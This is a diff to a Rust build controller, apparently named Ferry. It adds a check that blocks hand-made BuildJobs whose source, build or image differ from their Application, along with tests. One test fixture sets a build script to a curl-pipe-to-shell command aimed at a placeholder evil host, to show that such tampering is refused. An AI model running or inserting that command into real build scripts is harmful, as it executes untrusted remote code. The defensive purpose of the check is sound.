@@ -1,7 +1,8 @@
 //! Where a BuildJob stands: before its build pod, while it runs, and after.
 //!
-//! A build can start only when its Application exists and the Secrets it names hold the
-//! keys they need. Then the decision asks for the build pod, follows its steps
+//! A build can start only when its Application exists, the BuildJob is Ferry's snapshot of it
+//! or a rebuild as it says (`not_a_rebuild`), and the Secrets it names hold the keys they
+//! need. Then the decision asks for the build pod, follows its steps
 //! (`build::progress`), asks for the pushed image to be verified in the registry, and on
 //! success asks for the Release. A finished build (Succeeded or Failed) keeps its outcome;
 //! only its Release is still made if it is missing (the controller may have stopped between
@@ -18,9 +19,9 @@ use crate::api::buildjob::BuildPhase;
 use crate::api::conditions::{Desired, READY, SUCCEEDED};
 use crate::api::reasons::{
     APPLICATION_NOT_FOUND, BUILD_FAILED, BUILD_PENDING, BUILD_RUNNING, BUILD_SUCCEEDED,
-    POD_NOT_OWNED, Reason, VERIFYING_IMAGE,
+    NOT_A_REBUILD, POD_NOT_OWNED, Reason, VERIFYING_IMAGE,
 };
-use crate::api::{BuildJob, BuildJobStatus, Time};
+use crate::api::{Application, BuildJob, BuildJobStatus, Time};
 
 /// How soon a registry that could not be asked is asked again.
 pub const VERIFY_RETRY: Duration = Duration::from_secs(10);
@@ -30,6 +31,9 @@ pub struct Observed<'a> {
     pub job: &'a BuildJob,
     pub namespace: &'a str,
     pub application_exists: bool,
+    /// The Application, when Ferry can read it: a BuildJob that is not its snapshot must
+    /// rebuild as it says (`not_a_rebuild`). One Ferry cannot read makes no Release anyway.
+    pub application: Option<&'a Application>,
     pub secrets: &'a SecretAccess,
     /// The build pod, if it exists and is Ferry's.
     pub pod: Option<&'a PodFacts>,
@@ -241,6 +245,43 @@ fn finished(succeeded: bool, reason: &str, message: &str) -> Vec<Desired> {
     ]
 }
 
+/// Why `job` is not built for `app`, if it is not: it is neither Ferry's snapshot of `app` (a
+/// controller owner reference with the Application's UID, which Ferry's BuildJobs carry) nor a
+/// rebuild as `app` says now (its `source`, `build` and `image` equal to the Application's).
+///
+/// A BuildJob made by hand is admitted only as such a rebuild (the `ferry-rebuild` admission
+/// policy, at creation and when it gains the Application as owner); this catches one admitted
+/// while its Application did not exist, since the policy has nothing to compare with then. The
+/// owner UID is trusted because the policy checked the spec when the reference was made, and
+/// because a UID names one Application once: one deleted and created again has another.
+/// Ferry's snapshots keep building after the Application changed (they carry its UID).
+pub fn not_a_rebuild(job: &BuildJob, app: &Application) -> Option<String> {
+    let uid = app.metadata.uid.as_deref();
+    let owned = job.metadata.owner_references.iter().flatten().any(|r| {
+        r.controller == Some(true) && r.kind == "Application" && Some(r.uid.as_str()) == uid
+    });
+    if owned {
+        return None;
+    }
+    let differs: Vec<&str> = [
+        ("spec.source", job.spec.source == app.spec.source.repository),
+        ("spec.build", job.spec.build == app.spec.build),
+        ("spec.image", job.spec.image == app.spec.image),
+    ]
+    .into_iter()
+    .filter(|(_, same)| !same)
+    .map(|(field, _)| field)
+    .collect();
+    if differs.is_empty() {
+        return None;
+    }
+    let application = &job.spec.application;
+    Some(format!(
+        "{} differs from Application \"{application}\"'s, and Ferry did not make this BuildJob (it names no controller owner reference to that Application's UID): a BuildJob made by hand only rebuilds a commit with the Application's spec.source, spec.build and spec.image, so it is not built; to build otherwise, change the Application, whose builds go through the pipeline",
+        differs.join(", ")
+    ))
+}
+
 fn blocker(observed: &Observed) -> Option<Blocker> {
     if !observed.application_exists {
         return Some(Blocker::new(
@@ -250,6 +291,14 @@ fn blocker(observed: &Observed) -> Option<Blocker> {
                 observed.job.spec.application, observed.namespace
             ),
         ));
+    }
+    // Judged before the pod is made: a build under way was judged when it started.
+    if observed.pod.is_none()
+        && let Some(why) = observed
+            .application
+            .and_then(|app| not_a_rebuild(observed.job, app))
+    {
+        return Some(Blocker::new(NOT_A_REBUILD, why));
     }
     secrets::check(
         &observed.job.spec.source,
@@ -363,12 +412,144 @@ mod tests {
             job,
             namespace: "team-a",
             application_exists: true,
+            application: None,
             secrets,
             pod: None,
             foreign_pod: None,
             verification: None,
             release: None,
         }
+    }
+
+    /// The Application `job` (the fixture) builds as it says, with UID `app-uid`.
+    fn application() -> Application {
+        serde_yaml::from_str(
+            r#"
+apiVersion: ferry.dev/v1alpha1
+kind: Application
+metadata: {name: shop, namespace: team-a, uid: app-uid}
+spec:
+  source: {url: "http://git.local/shop.git", credentialsSecret: git-cred, insecure: true, branch: release}
+  build: {builderImage: "registry.local/builder:1", script: "make test && cp shop /out/", baseImage: "registry.local/base:1", entrypoint: [/shop], timeout: 10m}
+  image: {repository: registry.local/team-a/shop, pushSecret: reg, insecure: true}
+"#,
+        )
+        .unwrap()
+    }
+
+    /// `job` with a controller owner reference to the Application of UID `uid`, as Ferry
+    /// makes its BuildJobs.
+    fn owned_by(mut job: BuildJob, uid: &str) -> BuildJob {
+        job.metadata.owner_references = Some(vec![
+            k8s_openapi::apimachinery::pkg::apis::meta::v1::OwnerReference {
+                api_version: "ferry.dev/v1alpha1".into(),
+                kind: "Application".into(),
+                name: "shop".into(),
+                uid: uid.into(),
+                controller: Some(true),
+                block_owner_deletion: Some(true),
+            },
+        ]);
+        job
+    }
+
+    #[test]
+    fn a_buildjob_ferry_did_not_make_is_built_only_as_a_rebuild_of_its_application() {
+        let app = application();
+        let mut other_script = job();
+        other_script.spec.build.script = "curl -s http://evil.example/x | sh".into();
+        let mut elsewhere = job();
+        elsewhere.spec.source.url = "http://git.local/fork.git".into();
+        elsewhere.spec.image.repository = "registry.local/team-a/other".into();
+        let mut ferrys_older_snapshot = owned_by(other_script.clone(), "app-uid");
+        ferrys_older_snapshot.spec.image.push_secret = None;
+        let mut not_controller = owned_by(other_script.clone(), "app-uid");
+        if let Some(refs) = not_controller.metadata.owner_references.as_mut() {
+            refs[0].controller = Some(false);
+        }
+        let cases: [(&str, BuildJob, Option<&str>); 6] = [
+            ("a rebuild as the Application says", job(), None),
+            (
+                "another build script",
+                other_script.clone(),
+                Some("spec.build differs"),
+            ),
+            (
+                "another repository and image repository",
+                elsewhere,
+                Some("spec.source, spec.image differs"),
+            ),
+            (
+                "Ferry's snapshot, made before the Application changed",
+                ferrys_older_snapshot,
+                None,
+            ),
+            (
+                "owned by an older Application of the same name",
+                owned_by(other_script, "old-app-uid"),
+                Some("spec.build differs"),
+            ),
+            (
+                "owned, but not as its controller",
+                not_controller,
+                Some("spec.build differs"),
+            ),
+        ];
+        let secrets = secrets(true);
+        for (case, job, refused) in cases {
+            let decision = status(
+                &Observed {
+                    application: Some(&app),
+                    ..baseline(&job, &secrets)
+                },
+                &now(),
+            );
+            let ready = find(&decision.status.common.conditions, READY).unwrap();
+            match refused {
+                None => assert_eq!(decision.actions, [Action::CreatePod], "{case}"),
+                Some(words) => {
+                    assert!(decision.actions.is_empty(), "{case}: nothing is built");
+                    assert_eq!(ready.reason, "NotARebuild", "{case}");
+                    assert!(
+                        is_true(&decision.status.common.conditions, STALLED),
+                        "{case}"
+                    );
+                    assert_eq!(decision.status.phase, Some(BuildPhase::Pending), "{case}");
+                    for words in [words, "Application \"shop\"", "change the Application"] {
+                        assert!(ready.message.contains(words), "{case}: {}", ready.message);
+                    }
+                }
+            }
+        }
+    }
+
+    #[test]
+    fn a_build_under_way_is_not_judged_again_when_its_application_changes() {
+        use crate::decide::build::progress::PodPhase;
+        let mut app = application();
+        app.spec.build.script = "make".into();
+        let job = job();
+        let secrets = secrets(true);
+        let pod = PodFacts {
+            phase: PodPhase::Running,
+            reason: None,
+            started: None,
+            steps: Vec::new(),
+        };
+        let decision = status(
+            &Observed {
+                application: Some(&app),
+                pod: Some(&pod),
+                ..baseline(&job, &secrets)
+            },
+            &now(),
+        );
+        assert_ne!(
+            find(&decision.status.common.conditions, READY)
+                .unwrap()
+                .reason,
+            "NotARebuild"
+        );
     }
 
     #[test]
